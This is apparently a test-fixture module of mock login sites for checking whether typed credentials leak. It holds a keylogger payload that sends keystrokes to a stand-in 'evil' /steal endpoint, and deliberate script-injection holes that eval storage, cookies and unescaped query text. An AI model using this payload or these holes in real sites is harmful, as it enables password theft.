// Sites with a hole of the usual kind, which an agent puts its bait into before the claim.

import { EventEmitter, once } from "node:events";
import { within } from "../part.mjs";
import { CookieSite, cookie, form, literal, PASSWORD_FORM, page, redirect } from "./web.mjs";

/** A site at whose wall a script runs that an agent chose. */
class BaitedSite extends CookieSite {
  begin = "/login";

  answer(asked) {
    if (asked.path !== "/login" || asked.method === "POST") return super.answer(asked);
    return page("Sign in", `${form(PASSWORD_FORM)}${this.hole(asked)}`);
  }

  /** What an agent plants, so that it hears what is typed. */
  get bait() {
    const { origin } = this.sites.of("evil");
    return `addEventListener("input", (e) => { new Image().src = ${literal(`${origin}/steal?text=`)} + encodeURIComponent(e.target.value); }, true)`;
  }
}

/** Runs what its local storage holds. */
export class StorageHoleSite extends BaitedSite {
  hole() {
    return `<script>try { (0, eval)(localStorage.getItem("widgets") ?? ""); } catch {}</script>`;
  }

  async plant(page) {
    await page.goto(this.url);
    await page.evaluate((bait) => localStorage.setItem("widgets", bait), this.bait);
  }
}

/** Runs what a cookie holds. */
export class CookieHoleSite extends BaitedSite {
  hole() {
    return `<script>const kept = /(?:^|; )widgets=([^;]*)/.exec(document.cookie);
try { (0, eval)(decodeURIComponent(kept?.[1] ?? "")); } catch {}</script>`;
  }

  async plant(page) {
    await page.goto(this.url);
    await page.evaluate((bait) => {
      // biome-ignore lint/suspicious/noDocumentCookie: as any script of a page does.
      document.cookie = `widgets=${encodeURIComponent(bait)}; path=/`;
    }, this.bait);
  }
}

/** Writes its query into its page. */
export class QueryHoleSite extends BaitedSite {
  hole({ query }) {
    return `<p>Welcome back, ${query.name ?? "friend"}</p>`;
  }

  async plant(page) {
    await page.goto(`${this.url}?name=${encodeURIComponent(`<script>${this.bait}</script>`)}`);
  }
}

/** Keeps the password for the next time, in every store and in several forms. */
export class RememberingSite extends CookieSite {
  begin = "/login";

  answer(asked) {
    if (asked.path !== "/login" || asked.method === "POST") return super.answer(asked);
    return page("Sign in", `${form(PASSWORD_FORM)}<script>${REMEMBER}</script>`);
  }
}

const REMEMBER = `document.getElementById("form").addEventListener("submit", async (event) => {
  event.preventDefault();
  const { user, password } = Object.fromEntries(new FormData(event.target));
  const hex = [...password].map((c) => c.charCodeAt(0).toString(16).padStart(2, "0")).join("");
  localStorage.setItem("remembered", JSON.stringify({ user, password }));
  localStorage.setItem("basic", btoa(user + ":" + password));
  localStorage.setItem("of " + password, "a name, too");
  localStorage.setItem("theme", "dark");
  sessionStorage.setItem("hex", hex);
  sessionStorage.setItem("wide", btoa([...password].join("\\0") + "\\0"));
  sessionStorage.setItem("tab", "first");
  document.cookie = "remember=" + btoa(password) + "; path=/";
  document.cookie = "language=en; path=/";
  const asked = indexedDB.open("remembered");
  asked.onupgradeneeded = () => asked.result.createObjectStore("records");
  await new Promise((resolve) => { asked.onsuccess = resolve; });
  const change = asked.result.transaction("records", "readwrite");
  const records = change.objectStore("records");
  records.put({ deep: { list: [1, password] } }, "deep");
  records.put(new TextEncoder().encode(password), "bytes");
  records.put({ font: "large" }, "harmless");
  await new Promise((resolve) => { change.oncomplete = resolve; });
  event.target.submit();
});`;

/** Sends its form by GET: what was typed is in the address of the page after it. */
export class QueryFormSite extends CookieSite {
  begin = "/login";

  answer(asked) {
    const { path, query, cookies } = asked;
    if (path === "/login")
      return page("Sign in", form(PASSWORD_FORM, { method: "get", action: "/welcome" }));
    if (path !== "/welcome") return super.answer(asked);
    if (this.sessions.has(cookies.session)) return redirect("/account");
    if (!this.knows(query)) return redirect("/login");
    return this.welcome(
      page(
        "Welcome",
        `<p>Welcome. <a href=/account>Your account</a></p>`,
        cookie("session", this.open()),
      ),
    );
  }
}

/** Shows what is typed in places that a question may be about, while it is typed. */
export class MirroringSite extends CookieSite {
  begin = "/login";

  answer(asked) {
    if (asked.path === "/echo") return page("Echo", "");
    if (asked.path !== "/login" || asked.method === "POST") return super.answer(asked);
    return page(
      "Sign in",
      `${form(PASSWORD_FORM)}<script>document.getElementById("password").addEventListener("input", ({ target }) => {
  target.setAttribute("value", target.value);
  history.replaceState(null, "", "/login?typed=" + target.value);
  document.cookie = "typed-" + target.value.length + "=1; path=/";
  fetch("/echo?typed=" + target.value);
});</script>`,
    );
  }
}

/** Asks for a passkey as its page opens. */
export class PasskeySite extends CookieSite {
  begin = "/login";

  answer(asked) {
    if (asked.path !== "/login" || asked.method === "POST") return super.answer(asked);
    return page(
      "Sign in",
      `${form(PASSWORD_FORM)}<script>navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32) } }).catch(() => {});</script>`,
    );
  }
}

/** The agent's own listener. */
export class EvilSite extends CookieSite {
  stolen = [];
  #news = new EventEmitter().setMaxListeners(0);

  /** Waits until that text has been told to it. */
  async stole(text) {
    const told = async () => {
      while (!this.stolen.includes(text)) await once(this.#news, "stolen");
    };
    await within(20_000, () => `a theft; all that was stolen is ${this.stolen}`, told());
  }

  answer({ path, query }) {
    if (path === "/steal") {
      this.stolen.push(query.text);
      this.#news.emit("stolen");
    }
    return page("Evil", "<p>Nothing to see here.</p>", { "access-control-allow-origin": "*" });
  }
}
